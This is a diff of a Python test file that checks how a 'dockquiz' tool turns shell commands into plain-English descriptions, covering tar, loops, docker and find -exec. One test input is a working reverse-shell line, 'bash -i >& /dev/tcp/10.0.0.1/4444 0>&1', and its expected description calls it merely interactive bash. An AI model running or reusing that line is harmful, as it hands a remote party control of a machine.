@@ -297,7 +297,7 @@ def test_an_english_prompt_never_names_a_one_word_answer():
 
     g = grammar()
     assert command_en(g, "lscpu") == "A command"
-    assert command_en(g, "tar -xzf a.tgz") == "A `tar` command"  # the flags and values are the answer's rest
+    assert command_en(g, "tar -xzf a.tgz").startswith("An archiving utility: extract")  # its flags said (test_shell_en.py)
     assert command_en(g, "git status") == "Show the state of the working tree"
 
 
@@ -313,14 +313,18 @@ def test_english_says_a_shell_loop_as_a_loop_and_never_reads_its_syntax_as_comma
     from dockquiz.notes.english import command_en
 
     g = grammar()
-    assert command_en(g, 'for f in "$@"; do echo $f; done') == 'For each f in "$@": an `echo` command'
-    assert command_en(g, "while true; do date; sleep 1; done") == "While true: a `date` command; then a `sleep` command"
+    assert command_en(g, 'for f in "$@"; do echo $f; done') == 'For each f in "$@": display a line of text'
+    assert command_en(g, "while true; do date; sleep 1; done") == (
+        "While true: print or set the system date and time; then delay for a specified amount of time"
+    )
     assert command_en(g, "for c in $(docker ps -q); do docker stop $c; done") == (
         "For each c in the output of “list containers, show only container IDs”: stop $c"
     )
     # `\;` ends -exec's command and `>& file` redirects a stream: neither is a command of its own
-    assert command_en(g, "find . -name '*.tmp' -exec rm {} \\;") == "A `find` command"
-    assert command_en(g, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") == "A `bash` command"
+    assert command_en(g, "find . -name '*.tmp' -exec rm {} \\;") == (
+        "Search for files in a directory hierarchy: whose name matches *.tmp, for each one, running: remove files or directories"
+    )
+    assert command_en(g, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") == "Run shell commands (bash): interactively"
 
 
 def test_variables_set_for_a_command_are_part_of_its_line_and_study_shows_them():
